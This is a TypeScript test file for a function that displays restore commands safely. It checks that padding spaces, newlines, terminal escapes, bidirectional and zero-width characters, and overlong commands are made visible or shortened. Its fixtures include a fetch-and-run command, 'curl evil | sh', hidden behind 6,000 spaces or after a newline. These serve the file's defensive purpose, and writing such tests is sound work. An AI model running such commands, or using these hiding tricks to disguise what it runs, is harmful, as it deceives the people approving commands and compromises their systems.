import { describe, expect, test } from "bun:test";
import { shownCommand } from "../../../restore/dumps/shown-command.ts";
import { attack } from "../../support/attack.ts";

const hidden = (characters: string, shown: string) =>
  `a command of ${characters} characters, where ⟪ ⟫ stands for what is hidden: sh -c '${shown}'`;

describe("a restore command is shown", () => {
  test.each([
    ["plain", "psql -X --dbname=app", "psql -X --dbname=app"],
    ["with quotes, backslashes and three spaces", `sed 's/a\\nb/c/'   | "x"`, `sed '\\''s/a\\nb/c/'\\''   | "x"`],
    ["in other languages", "echo Größe 大小", "echo Größe 大小"],
  ])("a restore command is shown as it is if it is %s", (_, command, shown) => {
    expect(shownCommand(command)).toBe(`sh -c '${shown}'`);
  });

  attack(
    {
      by: "W",
      what: "6,000 spaces scroll the start of a restore command off the question",
      before: "start not visible",
      now: "they are shown as one mark, with the length of the command",
    },
    () => {
      const command = `curl evil | sh;${" ".repeat(6_000)}psql app`;
      expect(shownCommand(command)).toBe(hidden("6,023", "curl evil | sh;⟪6,000 × space⟫psql app"));
    },
  );

  test.each([
    ["newlines", "true # \ncurl evil", "true # ⟪newline⟫curl evil"],
    ["many of them", `a${"\n".repeat(500)}b`, "a⟪500 × newline⟫b"],
    ["tabs and returns", "a\tb\rc", "a⟪tab⟫b⟪carriage return⟫c"],
    ["escapes that steer a terminal", "a\u001b[2Jb\u009b1m", "a⟪U+001B⟫[2Jb⟪U+009B⟫1m"],
    ["marks that reorder text", "a\u202eb\u2066c\u200fd\u061c", "a⟪U+202E⟫b⟪U+2066⟫c⟪U+200F⟫d⟪U+061C⟫"],
    [
      "what takes no room",
      "a\u200bb\u00adc\ufeffd\u034fe\u3164f\u{e0041}",
      "a⟪U+200B⟫b⟪U+00AD⟫c⟪U+FEFF⟫d⟪U+034F⟫e⟪U+3164⟫f⟪U+E0041⟫",
    ],
    ["letters that run leftward", "a אב", "a ⟪U+05D0⟫⟪U+05D1⟫"],
    ["other spaces", "a\u00a0b\u2028c\u3000d\u2800", "a⟪U+00A0⟫b⟪U+2028⟫c⟪U+3000⟫d⟪U+2800⟫"],
    ["marks over letters", "a\u0336b", "a⟪U+0336⟫b"],
    ["half a character", "a\ud800b", "a⟪U+D800⟫b"],
    ["the marks of this very form", "a⟪3 × space⟫b", "a⟪U+27EA⟫3 × space⟪U+27EB⟫b"],
  ])("a restore command is shown with %s by name", (_, command, shown) => {
    const characters = String([...command].length);
    expect(shownCommand(command)).toBe(hidden(characters, shown));
  });

  test("a restore command is shown with its middle left out, and counted, if it is longer than a screen", () => {
    const shown = shownCommand(`first;${"x".repeat(9_000)};last`);
    expect(shown).toBe(hidden("9,011", `first;${"x".repeat(694)}⟪8,011 characters⟫${"x".repeat(295)};last`));
  });

  test("a restore command is shown in less than a screen, whatever it is made of", () => {
    for (const filler of [" \t", "ab", "\u202e\u200b", "   x", "'"]) {
      const shown = shownCommand(`first;${filler.repeat(10_000)};last`);
      expect(shown.replaceAll("'\\''", "'").length).toBeLessThan(1_200);
      expect(shown).toContain("first;");
      expect(shown).toContain(";last'");
      expect(shown).toMatch(/⟪[\d,]+ characters⟫/);
    }
  });
});
